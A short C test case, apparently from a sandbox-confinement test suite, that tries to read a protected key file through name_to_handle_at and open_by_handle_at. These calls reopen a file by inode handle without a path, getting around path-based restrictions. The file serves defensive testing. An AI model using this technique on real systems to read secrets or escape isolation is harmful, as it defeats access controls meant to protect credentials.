// Opens the key by its file handle, which names an inode and no path.
// class: kernel: name_to_handle_at, open_by_handle_at
// plain: leak
// as: root
// journal: system *handle*
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  struct {
    struct file_handle handle;
    char bytes[MAX_HANDLE_SZ];
  } at = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, fact("KEY"), &at.handle, &mount, 0) != 0) refused("name_to_handle_at");
  drain_and_close(open_by_handle_at(open(fact("W"), O_RDONLY), &at.handle, O_RDONLY), "open_by_handle_at");
  return 0;
}
